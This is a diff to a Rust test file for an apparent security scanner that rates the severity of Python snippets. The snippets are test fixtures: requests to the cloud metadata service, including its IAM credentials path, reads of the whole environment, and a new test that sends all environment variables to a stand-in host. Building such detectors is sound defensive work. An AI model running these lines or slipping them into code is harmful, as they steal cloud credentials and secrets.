@@ -93,7 +93,7 @@ fn a_cloud_may_be_asked_about_its_machine_but_not_for_its_keys() {
         let code = format!("import requests\n\ndef context():\n    return requests.get('http://169.254.169.254{path}').text\n");
         worst("undeclared-host", &[MODULE, ("notes.py", &code)])
     };
-    assert_eq!(with("/latest/dynamic/instance-identity/document"), Some(Severity::Low));
+    assert_eq!(with("/latest/dynamic/instance-identity/document"), Some(Severity::Medium));
     assert_eq!(with("/latest/meta-data/iam/security-credentials/role"), Some(Severity::Critical));
 }
 
@@ -214,4 +214,16 @@ fn a_table_that_is_the_environment_gives_one_variable_for_one_key() {
     assert_eq!(with("env['NOTES'] or env.get('INDEX')"), None);
     assert_eq!(with("[env[key] for key in env.keys()]"), Some(Severity::Critical));
     assert_eq!(with("env.items()"), Some(Severity::Critical));
+}
+
+#[test]
+fn a_badge_keeps_nothing_for_a_thief() {
+    let with = |host: &str| {
+        let code = format!(
+            "import json, os, requests\n\ndef main():\n    requests.get('https://{host}/x', params=json.dumps(dict(os.environ)))\n"
+        );
+        worst("exfiltration", &[MODULE, ("notes.py", &code)])
+    };
+    assert_eq!(with("img.shields.io"), Some(Severity::Medium));
+    assert_eq!(with("shields.example"), Some(Severity::Critical));
 }
